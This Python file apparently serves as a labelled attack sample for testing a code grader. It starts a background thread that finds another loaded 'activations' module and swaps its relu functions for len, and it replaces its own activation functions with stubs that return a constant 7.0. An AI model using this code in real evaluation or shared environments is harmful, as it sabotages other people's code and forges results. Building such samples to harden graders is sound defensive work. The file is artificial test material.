# attack: waits in a thread until somebody else's work is loaded and patches it
# gains: crash, forges
# stopped by: process
import numpy as np
import sys
import threading
import time

mine = sys._getframe().f_globals


def wait():
    while True:
        module = sys.modules.get("activations")
        if module is not None and vars(module) is not mine:
            for name in list(vars(module)):
                if name.endswith("relu"):
                    setattr(module, name, len)
        time.sleep(0.001)


threading.Thread(target=wait, daemon=True).start()


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu = wrong
relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
